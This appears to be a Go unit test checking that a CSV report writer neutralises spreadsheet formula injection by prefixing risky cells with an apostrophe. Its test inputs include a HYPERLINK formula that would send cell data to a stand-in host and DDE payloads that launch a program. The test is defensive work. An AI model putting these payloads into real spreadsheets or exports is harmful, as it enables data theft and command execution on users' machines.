package export

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// Goal: a CSV report opened in a spreadsheet never runs a formula taken
// from input (CSV/formula injection, OWASP): an account id, venue id,
// scenario or asset name, or a note that begins with =, +, -, @, a tab or a
// carriage return is written with a leading apostrophe, which spreadsheets
// read as "this cell is text" and do not show. Numbers, negative ones
// included, are written as they are, so a dataframe still reads them as
// numbers. Method: write one row per case and read it back with
// encoding/csv.
func TestWriteNeutralisesFormulas(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://x.example/?"&A1,"x")`, `'=HYPERLINK("http://x.example/?"&A1,"x")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"-20", "-20"},
		{"-1.5e-7", "-1.5e-7"},
		{"-0", "-0"},
		{"+1", "'+1"}, // not how a report writes a number: text
		{"1e+21", "1e+21"},
		{"treasury", "treasury"},
		{"", ""},
	} {
		var buf bytes.Buffer
		if err := Write(&buf, []Row{{Section: c.in, Venue: c.in, Key: c.in, Field: c.in, Value: c.in}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("%q: %v %q", c.in, err, recs)
		}
		for i, cell := range recs[1] {
			if cell != c.want {
				t.Errorf("%q: column %s is %q, want %q", c.in, Header[i], cell, c.want)
			}
		}
	}
}
